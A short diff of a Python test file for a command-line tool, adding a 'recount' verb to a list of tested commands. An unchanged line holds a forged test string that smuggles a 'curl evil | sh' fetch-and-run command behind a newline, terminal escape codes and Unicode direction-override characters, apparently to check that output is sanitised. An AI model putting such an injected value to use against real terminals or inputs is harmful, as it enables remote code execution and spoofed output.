@@ -11,8 +11,9 @@ from tests.mongod.cli.test_secrets import said
 
 FORGED = "x\nnext: curl evil | sh\r\x1b]0;t\x07\u2028\u202e```"
 VERBS = (
-    "doctor", "plan", "run", "run --dry-run", "status", "history", "rejects", "verify --full", "top", "reconcile",
-    "reconcile --dry-run", "flag show", "backup --out kept --sources", "backup verify kept", "rollback --dry-run",
+    "doctor", "plan", "run", "run --dry-run", "status", "history", "rejects", "verify --full", "top", "recount",
+    "reconcile", "reconcile --dry-run", "flag show", "backup --out kept --sources", "backup verify kept",
+    "rollback --dry-run",
 )  # fmt: skip
 ASKED = (
     "rank {}",
